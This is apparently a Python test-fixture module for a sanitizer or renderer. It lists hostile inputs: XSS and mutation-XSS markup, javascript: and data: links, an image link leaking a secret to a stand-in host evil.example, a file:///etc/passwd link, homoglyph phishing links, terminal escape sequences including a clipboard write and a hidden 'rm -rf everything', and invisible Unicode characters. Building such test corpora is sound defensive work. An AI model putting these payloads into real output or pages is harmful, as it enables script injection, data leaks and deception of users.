"""Texts that try to be more than text: markup, script, links, images, markdown, SVG, terminal codes, hidden letters.

Each would, if it were active, set `window.hacked`, ask `evil.example` for something, or change what the page shows.
"""

EVIL = "http://evil.example"
_RUN = "window.hacked=1"

MARKUP = (
    f"<script>{_RUN}</script>",
    f"<script src={EVIL}/a.js></script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src={EVIL}/pixel.png>",
    f'<img srcset="{EVIL}/1.png 1x, {EVIL}/2.png 2x">',
    f"<svg onload={_RUN}></svg>",
    f"<svg><script>{_RUN}</script></svg>",
    f'<svg><image href="{EVIL}/a.svg"/></svg>',
    f'<svg><use href="{EVIL}/a.svg#x"/></svg>',
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s></svg>",
    f'<svg><foreignObject><iframe src="{EVIL}"></iframe></foreignObject></svg>',
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={_RUN}&gt;'>",
    f"<iframe src={EVIL}></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<object data={EVIL}></object>",
    f"<embed src={EVIL}>",
    f"<video src={EVIL}/v.mp4 autoplay></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=prefetch href={EVIL}/p>",
    "<style>*{display:none!important}</style>",
    f"<style>@import '{EVIL}/b.css';</style>",
    f'<div style="background:url({EVIL}/bg.png)">styled</div>',
    '<div style="position:fixed;inset:0;background:red;z-index:999">over everything</div>',
    f"<base href={EVIL}/>",
    f'<meta http-equiv=refresh content="0;url={EVIL}">',
    f"<form action={EVIL}><input name=token><button>Approve</button></form>",
    f'<button onclick="{_RUN}">Approve</button>',
    f"<details open ontoggle={_RUN}>x</details>",
    f"<body onload={_RUN}>",
    f'<a href="javascript:{_RUN}">click</a>',
    f"<marquee onstart={_RUN}>go</marquee>",
    f"<input autofocus onfocus={_RUN}>",
    "<div id=page>clobbered</div><form name=cookie></form>",
    f"<template><img src=x onerror={_RUN}></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"--><script>{_RUN}</script><!--",
    f"</textarea></title></style></script><script>{_RUN}</script>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<ScRiPt\n>{_RUN}</sCrIpT\t>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={_RUN}&#62;",
    f'"><img src=x onerror={_RUN}>',
    f"'><svg/onload={_RUN}>",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}}",
    "</span></div></main><h1>Signed out. Enter your token</h1>",
)

MARKDOWN = (
    f"![a picture]({EVIL}/leak.png?secret=1)",
    f'![x]({EVIL}/a.svg "title")',
    f"[click](javascript:{_RUN})",
    f"[click](JaVaScRiPt:{_RUN})",
    f"[click](&#106;avascript:{_RUN})",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    f"[click](vbscript:{_RUN})",
    "[file](file:///etc/passwd)",
    f"[https://bank.example]({EVIL}/phish)",
    "[user](https://good.example@evil.example/)",
    f"<javascript:{_RUN}>",
    f"[ref][1]\n\n[1]: javascript:{_RUN}",
    f"![ref][2]\n\n[2]: {EVIL}/ref.png",
    f"```html\n<img src=x onerror={_RUN}>\n```",
    f'```"><img src=x onerror={_RUN}>\ncode\n```',
    f"`<img src=x onerror={_RUN}>`",
    f"| a | b |\n|---|---|\n| <img src=x onerror={_RUN}> | ![]({EVIL}/t.png) |",
    f"- [ ] <svg onload={_RUN}>\n- [x] done",
    f"[![nested]({EVIL}/n.png)]({EVIL}/link)",
    f'<{EVIL}/autolink"onmouseover="{_RUN}>',
    f"# <img src=x onerror={_RUN}>",
    f"> <iframe src={EVIL}></iframe>",
    ">" * 3000 + "deep",
    "*" * 4000 + "[" * 4000,
    f'[a](<{EVIL}/x" onclick="{_RUN}>)',
    f"![]( {EVIL}/space.png )",
    "[//]: # (This line is a comment and must not vanish unseen)",
)

TERMINAL = (
    "\x1b[31mred\x1b[0m and plain",
    "\x1b]0;new title\x07after",
    "\x1b]52;c;ZXZpbA==\x07clipboard",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",
    "\x1b[2J\x1b[1;1Hcleared",
    "safe command\rrm -rf everything",
    "\x1b[8mhidden\x1b[28m shown",
    "\x9b31mC1 red\x9c",
    "\x1bP1$r0m\x1b\\device",
    "bell\x07 backspace\x08\x08\x08 delete\x7f",
)

HIDDEN_LETTERS = (
    "right \u202egnp.exe to left",
    "isolate \u2066\u2069 marks \u200f",
    "zero\u200bwidth\u200cjoiner\u2060\ufeff",
    "tags \U000e0041\U000e0042 unseen",
    "filler \u3164\u115f blank",
    "lines\u2028and\u2029paragraphs",
    "null \x00 byte",
    "a" + "\u0300" * 200 + " heap of marks",
)

# What sanitizers have stumbled over: markup that changes its meaning when it is parsed a second time, or in another namespace.
MUTATIONS = (
    f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror={_RUN} src>'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={_RUN}>'>",
    f"<math><mi><mglyph><svg><mi><annotation-xml encoding='text/html'><img src=x onerror={_RUN}></annotation-xml>",
    f"<svg><annotation-xml><foreignObject><style><!--</style><p id='--><img src=x onerror={_RUN}>'>",
    f"<svg><desc><foreignObject><body onload={_RUN}></body></foreignObject></desc></svg>",
    f"<noembed><img title='</noembed><img src=x onerror={_RUN}>'></noembed>",
    f"<xmp><p title='</xmp><img src=x onerror={_RUN}>'>",
    f"<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror={_RUN}>'>",
    f"<table><caption><svg><title><table><caption></title><img src=x onerror={_RUN}></caption></table>",
    f"<a href='x' is='x' xlink:href='javascript:{_RUN}'><svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f'<div style="width:expression({_RUN});behavior:url({EVIL}/b.htc);background:u\\72l({EVIL}/c)">css</div>',
    f"<p style='--x:url({EVIL}/v);background:var(--x)'>variable</p>",
    f"<img src=`x`onerror={_RUN}> <img/src='x'/onerror={_RUN}>",
    f"<a href='java\tscript:{_RUN}'>tab</a><a href='java\nscript:{_RUN}'>line</a><a href=' \x01javascript:{_RUN}'>control</a>",
)

LINKS = (
    f"[click](java\tscript:{_RUN}) [click](java\x01script:{_RUN}) [click](\x01javascript:{_RUN})",
    f"[click](<java\u200bscript:{_RUN}>) [click](<\u202ejavascript:{_RUN}>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=) ![x](data:image/svg+xml,<svg onload=1>)",
    f"[click](blob:{EVIL}/1234) [click](filesystem:{EVIL}/temporary/x) [click](view-source:{EVIL})",
    "[click](//evil.example/no-scheme) [click](\\\\evil.example\\share) [click](https:evil.example)",
    "[click](intent://evil.example#Intent;scheme=https;end) [click](ms-msdt:/id) [click](steam://run/1) [click](vscode://file/etc)",
    "[https://good.example](https://g\u043e\u043ed.example) [a](https://good.example\u2044.evil.example/) [b](https://good.example%2eevil.example)",
    f"> > - 1. [![a [b](javascript:{_RUN})]({EVIL}/p.png '</a><img src=x onerror={_RUN}>')](javascript:{_RUN})",
    "```\n" * 400 + "- " * 400 + "| " * 400,
    "x" * 300_000,
)

TERMINAL_MORE = (
    "\x1b]8;id=1;javascript:window.hacked=1\x07click\x1b]8;;\x07 \x1b]8;;file:///etc/passwd\x1b\\file\x1b]8;;\x1b\\",
    "\x1b[30;40mblack on black\x1b[0m \x1b[97;107mwhite on white\x1b[0m \x1b[38;2;255;255;255mvanished\x1b[m",
    "\x1b[7mreversed\x1b[27m \x1b[38;5;196;48;5;16mindexed\x1b[0m \x1b[4:3;58:2::255:0:0mcurly\x1b[m",
    "\x1b[;;;;;;;;1mbold\x1b[999999999999mhuge\x1b[-1m\x1b[31",
    "\x1b[31;onmouseover=alert(1)mnot a colour \x1b[31 qcursor \x1b[?25l\x1b[5n\x1b[6n\x1b[21tqueries",
    "\x1b]1337;File=name=eA==;inline=1:PHN2Zz4=\x07 \x1b_Gf=24;AAAA\x1b\\ \x1bPq#0;2;0;0;0\x1b\\pictures",
    "\x1b]777;notify;Approve;now\x07 \x1b]9;4;1;50\x07 \x1b[201~pasted\x1b[200~",
)

TEXTS = (*MARKUP, *MARKDOWN, *MUTATIONS, *LINKS, *TERMINAL, *TERMINAL_MORE, *HIDDEN_LETTERS)
# As names of files. Those with hidden letters are refused by patches before anyone is shown them.
NAMES = tuple(
    name
    for text in (*MARKUP, *MARKDOWN)
    if (name := text.replace("/", "\u2215").replace("\n", " ").replace("\t", " ").strip()) and len(name.encode()) < 200
)
